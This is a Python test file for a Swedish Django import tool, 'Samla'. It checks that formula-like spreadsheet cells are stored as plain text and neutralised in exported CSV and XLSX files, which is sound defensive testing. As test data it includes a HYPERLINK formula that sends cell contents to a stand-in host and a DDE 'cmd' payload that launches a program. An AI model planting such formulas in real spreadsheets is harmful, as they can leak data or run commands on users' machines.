"""Cells that a spreadsheet program would run as formulas: imported as plain text, never
evaluated, and neutralised in every file Samla writes back (samla/spreadsheets.py)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from samla import idnumbers, spreadsheets
from samla.imports.models import ImportJob
from samla.imports.tests.builders import ANNA, BO, CARL, build, csv_file, run, xlsx_file
from samla.people.models import Participant
from samla.people.tests.cast import Cast, sign_in

HYPERLINK = '=HYPERLINK("https://example.invalid/?d="&A1,"Klicka")'
DORA = idnumbers.test_personnummer(date(1970, 1, 5), "F", index=2)


@pytest.mark.django_db
def test_formula_like_names_are_imported_as_literal_text(cast: Cast) -> None:
    build(cast)
    rows = [
        (ANNA, HYPERLINK, "Andersson"),
        (BO, "+46701740605", "Berg"),
        (CARL, "-Carl", "@SUM(A1:A2)"),
        (DORA, "\tDora", "Dahl"),
    ]
    content = xlsx_file(
        ["insats", "personnummer", "förnamn", "efternamn", "startdatum"],
        [["Tyresö arbetsträning", n.formatted(), f, e, "2024-01-08"] for n, f, e in rows],
    )

    job = run(cast.kim, cast, content, file_name="historik.xlsx")

    assert job.state == ImportJob.State.DONE, job.errors
    stored = dict(
        Participant.objects.exclude(pk=cast.pia.pk).values_list("id_number", "first_name")
    )
    # The formula's text, exactly as written, and never its result (there is none to store).
    assert stored[ANNA.value] == HYPERLINK
    assert stored[BO.value] == "+46701740605"
    assert stored[CARL.value] == "-Carl"
    assert stored[DORA.value] == "Dora"  # surrounding white space is trimmed from every cell
    assert Participant.objects.get(id_number=CARL.value).last_name == "@SUM(A1:A2)"


@pytest.mark.django_db
def test_the_error_report_neutralises_formula_cells(cast: Cast, client: Client) -> None:
    build(cast)
    content = csv_file(
        [
            {
                "insats": "Tyresö arbetsträning",
                "startdatum": "2024-01-08",
                HYPERLINK: "x",  # an unknown column: its header is quoted in the report
                "+46 kolumn": "",
                "-kolumn": "",
                "@kolumn": "",
            }
        ]
    )

    job = run(cast.kim, cast, content)
    sign_in(client, cast.kim)
    response = client.get(f"/import/{job.pk}/felrapport.csv")

    assert response["Content-Disposition"] == f'attachment; filename="importfel-{job.pk}.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0] == ["Rad", "Kolumn", "Fel"]
    assert [row[1] for row in rows[1:]] == [
        "'" + HYPERLINK,
        "'+46 kolumn",
        "'-kolumn",
        "'@kolumn",
    ]
    assert all(row[0] == "1" for row in rows[1:])
    assert all(not cell.startswith(spreadsheets.FORMULA_STARTS) for row in rows for cell in row)


@pytest.mark.django_db
def test_a_formula_in_a_date_cell_is_text_and_is_reported(cast: Cast) -> None:
    build(cast)
    content = xlsx_file(
        ["insats", "kön", "startdatum"],
        [["Tyresö arbetsträning", "K", "=DATE(2024;1;8)"]],
    )
    job = run(cast.kim, cast, content, file_name="historik.xlsx")
    assert [(e["row"], e["column"], e["message"]) for e in job.errors] == [
        (2, "startdatum", "”=DATE(2024;1;8)” är inget datum (ÅÅÅÅ-MM-DD).")
    ]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Anna", "Anna"),
        ("a=1", "a=1"),
        (-5, -5),  # a number is a number, not text that starts with "-"
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert spreadsheets.safe_cell(value) == written


def test_csv_text_is_excel_friendly_and_safe() -> None:
    text = spreadsheets.csv_text([["Namn", "Värde"], ["=cmd|' /C calc'!A0", 3]])
    assert text == "\ufeffNamn;Värde\r\n'=cmd|' /C calc'!A0;3\r\n"


def test_csv_numbers_have_a_decimal_comma() -> None:
    """As a Swedish spreadsheet reads a number; a negative number is a number, not a formula."""
    text = spreadsheets.csv_text([[Decimal("1234567.50"), Decimal("-12.05"), 0.5, 7]])
    assert text == "\ufeff1234567,50;-12,05;0,5;7\r\n"


def test_xlsx_cells_are_text_never_formulas() -> None:
    content = spreadsheets.xlsx_bytes([["Namn", "Antal"], [HYPERLINK, 7], ["-Carl", -2]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    (name, count), (formula, seven), (minus, negative) = sheet.iter_rows()
    assert (formula.value, formula.data_type) == ("'" + HYPERLINK, "s")
    assert (minus.value, minus.data_type) == ("'-Carl", "s")
    assert (seven.value, negative.value, name.value, count.value) == (7, -2, "Namn", "Antal")
